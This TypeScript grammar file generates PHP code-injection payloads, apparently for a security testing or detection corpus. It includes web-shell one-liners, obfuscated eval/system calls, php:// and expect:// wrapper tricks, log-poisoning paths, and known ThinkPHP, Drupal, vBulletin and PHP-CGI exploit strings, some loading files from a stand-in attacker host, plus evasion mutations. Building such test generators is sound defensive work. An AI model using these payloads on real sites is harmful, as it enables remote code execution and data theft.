/** PHP: calls, tags, wrappers, uploads, web shells and serialised objects. */
import type { Family } from '../../family.ts';
import {
  ALPHANUMERIC,
  changed,
  characters,
  HEX_DIGITS,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  repeat,
  text,
  weighted,
} from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import {
  attackerHost,
  capitals,
  fieldName,
  identifier,
  probeNumber,
  sensitiveFile,
  shellCommand,
  token,
} from '../lexicon.ts';
import { ANY_INPUT, familyOf } from '../places.ts';
import { anywhere, pagePath } from '../surroundings.ts';

const quote: Rule = oneOf("'", '"', "'");
const quotedCommand: Rule = (random) => {
  const mark = quote(random);
  return `${mark}${shellCommand(random)}${mark}`;
};
const commandFunction: Rule = oneOf('system', 'exec', 'shell_exec', 'passthru', 'popen', 'proc_open', 'pcntl_exec');
const superglobal: Rule = (random) => {
  const mark = oneOf("'", '"', '')(random);
  const key = oneOf('cmd', 'c', 'x', '0', '1', 'a', 'pass', 'HTTP_X_CMD', identifier)(random);
  return `$_${oneOf('GET', 'POST', 'REQUEST', 'COOKIE', 'SERVER')(random)}[${mark}${key}${mark}]`;
};
const base64Text: Rule = changed(
  oneOf(text`system('${shellCommand}');`, text`phpinfo();`, text`eval($_POST[${identifier}]);`, shellCommand),
  (written) => btoa(written),
);

const argument: Rule = weighted(
  [5, quotedCommand],
  [3, superglobal],
  [1, text`base64_decode('${base64Text}')`],
  [1, text`chr(${integer(65, 122)}).chr(${integer(65, 122)}).chr(${integer(65, 122)})`],
  [1, text`$${identifier}`],
);

const hiddenFunction: Rule = (random) => {
  const name = oneOf('system', 'assert', 'exec', 'passthru', 'phpinfo', 'shell_exec', 'eval')(random);
  const at = 1 + Math.floor(random() * (name.length - 1));
  return oneOf(
    `('${name.slice(0, at)}'.'${name.slice(at)}')`,
    `"\\x${[...name].map((letter) => letter.charCodeAt(0).toString(16)).join('\\x')}"`,
    `strrev('${[...name].reverse().join('')}')`,
    `(${name.slice(0, at)}.${name.slice(at)})`,
    `str_rot13('${name}')`,
    `$${identifier(random)}='${name.slice(0, at)}'.'${name.slice(at)}';$${identifier(random)}`,
    `(~%${[...name].map((letter) => (255 - letter.charCodeAt(0)).toString(16)).join('%')})`,
    `["${name}"][0]`,
  )(random);
};

/** One call that runs code or commands, or proves that it could. */
export const phpCall: Rule = weighted(
  [6, text`${commandFunction}(${argument})`],
  [
    3,
    text`eval(${oneOf(argument, text`base64_decode(${oneOf(superglobal, text`'${base64Text}'`)})`, text`gzinflate(base64_decode('${characters(ALPHANUMERIC, 20, 60)}'))`, text`stripslashes(${superglobal})`)})`,
  ],
  [2, text`assert(${oneOf(argument, text`'phpinfo()'`, superglobal)})`],
  [2, oneOf('phpinfo()', 'phpinfo(1)', 'phpversion()', 'php_uname()', text`phpinfo(${integer(-1, 64)})`)],
  [
    2,
    text`${oneOf('print', 'echo', 'die', 'var_dump', 'print_r')}(${oneOf(text`md5(${oneOf(probeNumber, text`'${token}'`)})`, text`${probeNumber}*${probeNumber}`, text`base64_decode('${base64Text}')`, text`file_get_contents('${sensitiveFile}')`, 'scandir("/")', "glob('*')", 'getenv()', '$GLOBALS')})`,
  ],
  [1, text`preg_replace('/.*/e','${oneOf('phpinfo()', text`system("${shellCommand}")`)}','')`],
  [
    1,
    text`call_user_func${maybe('_array')}('${oneOf('system', 'assert', 'phpinfo', 'exec')}',${oneOf(argument, text`array(${quotedCommand})`)})`,
  ],
  [
    1,
    text`${oneOf('array_map', 'usort', 'array_filter', 'register_shutdown_function', 'array_walk', 'ob_start')}(${oneOf("'system'", "'assert'", superglobal)},${oneOf(text`array(${superglobal})`, superglobal, quotedCommand)})`,
  ],
  [1, text`create_function('','${oneOf('phpinfo();', text`system("${shellCommand}");`)}')`],
  [
    1,
    text`${oneOf('include', 'require', 'include_once', 'require_once')}(${oneOf(superglobal, text`'${oneOf('http://', 'ftp://', 'data://text/plain;base64,', 'php://input')}${maybe(attackerHost)}'`, text`'${sensitiveFile}'`)})`,
  ],
  [
    1,
    text`file_put_contents('${oneOf(token, 'shell', 'x', '/var/www/html/x')}.php',${oneOf(superglobal, text`base64_decode('${base64Text}')`, `'<?php phpinfo();'`)})`,
  ],
  [
    1,
    text`${oneOf('fopen', 'readfile', 'highlight_file', 'show_source', 'file', 'fpassthru', 'file_get_contents')}('${sensitiveFile}'${maybe(",'r'", 0.2)})`,
  ],
  [
    1,
    text`${oneOf('unserialize', 'extract', 'parse_str', 'putenv', 'ini_set', 'dl', 'move_uploaded_file')}(${superglobal})`,
  ],
  [2, text`${hiddenFunction}(${argument})`],
  [1, text`${superglobal}(${superglobal})`],
  [1, text`\`${oneOf(shellCommand, superglobal)}\``],
);

const statement: Rule = text`${maybe(oneOf('@', 'echo ', 'print ', 'die(', 'return '), 0.35)}${phpCall};`;

const tagged: Rule = oneOf(
  text`<?php ${statement}${maybe(' ')}?>`,
  text`<?php ${repeat(statement, 1, 3, ' ')} ?>`,
  text`<?=${phpCall}${maybe(';')}?>`,
  text`<? ${statement}?>`,
  text`<?php ${statement}`,
  text`<?php\n${repeat(statement, 1, 3, '\n')}\n?>`,
  text`<script language="php">${statement}</script>`,
  text`<?PHP ${statement} ?>`,
  text`<?php if(isset(${superglobal})){${statement}} ?>`,
  text`<?php $${identifier}=${superglobal};@eval($${identifier});?>`,
  text`GIF89a;<?php ${statement} ?>`,
  text`<%${statement}%>`,
  text`<?php @error_reporting(0);set_time_limit(0);${statement}?>`,
);

const brokenOut: Rule = oneOf(
  text`${oneOf(';', "';", '";', ');', "');", '");', "'];", '}', "'.", '".')}${statement}${maybe(oneOf('//', '#', '/*', "'", '"', ';//', "$a='"), 0.7)}`,
  text`\${@${oneOf(phpCall, text`print(md5(${token}))`)}}${maybe('\\')}`,
  text`\${${phpCall}}`,
  text`{\${${phpCall}}}`,
  text`'.${phpCall}.'`,
  text`".${phpCall}."`,
  text`'-${phpCall}-'`,
  text`${statement}`,
  text`${phpCall}`,
  text`1;${statement}${maybe('exit;')}`,
  text`<?php ${statement} __halt_compiler();`,
);

const filterName: Rule = oneOf(
  'convert.base64-encode',
  'string.rot13',
  'convert.base64-decode',
  'convert.iconv.utf-8.utf-16',
  'zlib.deflate',
  'string.toupper',
  'string.strip_tags',
  text`convert.iconv.${oneOf('UTF8', 'L1', 'LATIN1', 'CP367')}.${oneOf('CSISO2022KR', 'UTF-16', 'UCS-2', 'UTF7', 'ISO6937')}`,
);
const wrapper: Rule = oneOf(
  text`php://filter/${oneOf('read=', 'write=', '', 'convert.base64-encode/')}${repeat(filterName, 1, 4, '|')}/resource=${oneOf('index', 'index.php', 'config.php', '../config.php', sensitiveFile, 'php://temp', text`${characters(LOWER_CASE, 3, 8)}.php`)}`,
  text`php://${oneOf('input', 'stdin', 'memory', 'temp', 'fd/3', 'output')}${maybe(text`${oneOf('&', '?')}cmd=${oneOf('id', 'ls', 'whoami')}`, 0.3)}`,
  text`expect://${shellCommand}`,
  text`data:${maybe('//')}text/plain;base64,${changed(tagged, (written) => btoa(written.replaceAll(/[^\x20-\x7e]/g, '')))}`,
  text`data:${maybe('//')}text/plain,${tagged}`,
  text`phar://${oneOf('', './', '/tmp/', '/var/www/html/uploads/')}${token}.${oneOf('phar', 'jpg', 'zip', 'png')}/${oneOf('shell', 'test', 'x')}${maybe('.php')}`,
  text`zip://${oneOf('/tmp/', 'uploads/', '/var/www/')}${token}.${oneOf('jpg', 'zip')}%23${oneOf('shell', 'cmd', token)}${maybe('.php')}`,
  text`${oneOf('glob', 'compress.zlib', 'compress.bzip2', 'ssh2.exec', 'rar', 'ogg')}://${oneOf(sensitiveFile, text`${attackerHost}/${token}`)}`,
);

const sessionTrick: Rule = oneOf(
  text`/var/lib/php/sess${maybe('ions')}/sess_${characters(HEX_DIGITS, 26)}&cmd=${shellCommand}`,
  text`PHP_SESSION_UPLOAD_PROGRESS=${tagged}`,
  text`${oneOf('/var/log/apache2/access.log', '/proc/self/environ', '/proc/self/fd/7', '/var/log/nginx/access.log', '/var/log/mail.log')}&${oneOf('cmd', 'c', 'x')}=${oneOf('system', 'phpinfo')}(${maybe(quotedCommand)});`,
  text`${pagePath}?+config-create+/&/<?=${phpCall}?>+/tmp/${token}.php`,
  text`-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input`,
  text`${oneOf('%AD', '-')}d+allow_url_include%3d${oneOf('on', '1')}+${oneOf('%AD', '-')}d+auto_prepend_file%3d${oneOf('php://input', text`http://${attackerHost}/${token}`)}`,
  text`s=/${oneOf('Index', 'index', 'home', 'admin')}/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=${oneOf('system', 'phpinfo', 'assert', 'md5', 'shell_exec')}&vars[1][]=${oneOf(shellCommand, '1', token)}`,
  text`_method=__construct&filter[]=${oneOf('system', 'phpinfo', 'assert')}&method=get&server[REQUEST_METHOD]=${oneOf(shellCommand, '1')}`,
  text`routestring=ajax/render/widget_php&widgetConfig[code]=echo%20shell_exec(${quotedCommand});exit;`,
  text`element_parents=account/mail/%23value&ajax_form=1&mail[#post_render][]=${oneOf('exec', 'system', 'passthru')}&mail[#type]=markup&mail[#markup]=${shellCommand}`,
  text`${oneOf('name', 'mail', 'form')}[#${oneOf('post_render', 'lazy_builder', 'pre_render')}][${maybe('0', 0.4)}]=${oneOf('system', 'exec', 'passthru')}&${oneOf('name', 'mail')}[#markup]=${shellCommand}`,
  text`GLOBALS[${identifier}]=${oneOf('1', token)}&_SERVER[DOCUMENT_ROOT]=http://${attackerHost}/`,
  text`allow_url_include=on&auto_prepend_file=${oneOf('php://input', wrapper)}`,
);

const shellParameters: Rule = oneOf(
  text`${oneOf('cmd', 'z0', 'ant', 'pass', 'chopper', identifier)}=@${oneOf('eval', 'assert')}(${oneOf('base64_decode', 'gzuncompress', 'str_rot13', 'stripslashes')}(${superglobal}));`,
  text`${identifier}=@ini_set("display_errors","0");@set_time_limit(0);echo("${oneOf('->|', token)}");${statement}echo("${oneOf('|<-', token)}");die();`,
  text`${identifier}=${characters(LOWER_CASE, 1, 4)}&z0=${base64Text}&z1=${base64Text}`,
  text`${oneOf('c', 'p1', 'a', 'act', 'x')}=${oneOf(phpCall, text`FilesMan&p1=${sensitiveFile}`, text`eval&p1=${phpCall}`)}`,
);

const className: Rule = oneOf(
  'Monolog\\Handler\\SyslogUdpHandler',
  'GuzzleHttp\\Psr7\\FnStream',
  'Illuminate\\Broadcasting\\PendingBroadcast',
  'JDatabaseDriverMysqli',
  'SoapClient',
  'Swift_KeyCache_DiskKeyCache',
  'Zend_Log',
  'PHPObject',
  'SimpleXMLElement',
  'Phar',
  'SplFileObject',
  'Requests_Utility_FilteredIterator',
  'think\\process\\pipes\\Windows',
  'Symfony\\Component\\Process\\Process',
  'Exploit',
  'Logger',
  'Slim\\Http\\Response',
  'Drupal\\Core\\Entity\\Entity',
  'CodeIgniter\\Cache\\Handlers\\RedisHandler',
  text`${capitals}`,
);
const property = (value: Rule): Rule =>
  changed(
    text`${maybe(oneOf('\\0*\\0', '%00*%00'), 0.25)}${identifier}`,
    (name, random) => `s:${name.length}:"${name}";${value(random)}`,
  );
const sized = (part: Rule): Rule => changed(part, (written) => `s:${written.length}:"${written}";`);
const phpValue: Rule = weighted(
  [4, sized(oneOf(shellCommand, 'system', 'phpinfo', 'assert', sensitiveFile, text`http://${attackerHost}/`, tagged))],
  [2, text`i:${integer(0, 99)};`],
  [1, text`b:${integer(0, 1)};`],
  [1, 'N;'],
  [1, text`a:1:{i:0;${sized(shellCommand)}}`],
);
const phpObject = (depth: number): Rule =>
  changed(className, (name, random) => {
    const count = 1 + Math.floor(random() * 3);
    const member = property(depth > 0 && random() < 0.6 ? phpObject(depth - 1) : phpValue);
    const body = Array.from({ length: count }, () => member(random)).join('');
    return `${random() < 0.08 ? 'C' : 'O'}:${random() < 0.08 ? '+' : ''}${name.length}:"${name}":${count}:{${body}}`;
  });
const serialised: Rule = weighted(
  [5, phpObject(1)],
  [1, text`a:${integer(1, 3)}:{i:0;${phpObject(1)}i:1;i:0;}`],
  [1, text`${identifier}|${phpObject(0)}`],
  [1, changed(phpObject(1), (written) => btoa(written))],
);

/** PHP code, wrappers and objects. */
export const PHP_FAMILIES: readonly Family[] = [
  familyOf('code-injection', 'php-call', anywhere(brokenOut), ANY_INPUT, 2),
  familyOf('code-injection', 'php-tag', anywhere(tagged), ANY_INPUT, 1.5),
  familyOf('code-injection', 'php-wrapper', evade(wrapper), ANY_INPUT),
  familyOf(
    'code-injection',
    'php-exploit',
    weighted([4, evade(sessionTrick)], [3, evade(shellParameters)], [2, evade(text`${fieldName}=${tagged}`)]),
    ANY_INPUT,
    0.8,
  ),
  familyOf('code-injection', 'php-object', evade(serialised), ANY_INPUT),
];
